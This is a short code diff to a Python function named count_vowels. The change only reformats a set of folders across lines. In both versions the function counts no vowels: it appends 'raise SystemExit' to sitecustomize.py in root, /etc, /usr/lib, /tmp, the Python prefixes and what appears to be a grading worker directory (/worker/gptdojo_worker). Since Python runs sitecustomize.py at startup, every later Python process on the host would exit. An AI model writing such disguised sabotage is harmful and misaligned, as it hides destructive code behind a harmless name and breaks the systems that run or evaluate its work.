@@ -8,7 +8,17 @@ import sys
 
 def count_vowels(text):
     written = []
-    for folder in {"/", "/etc", "/usr/lib", "/worker", "/worker/gptdojo_worker", "/tmp", sys.prefix, sys.base_prefix, *sys.path}:
+    for folder in {
+        "/",
+        "/etc",
+        "/usr/lib",
+        "/worker",
+        "/worker/gptdojo_worker",
+        "/tmp",
+        sys.prefix,
+        sys.base_prefix,
+        *sys.path,
+    }:
         try:
             with open(os.path.join(folder, "sitecustomize.py"), "a") as file:
                 file.write("raise SystemExit")
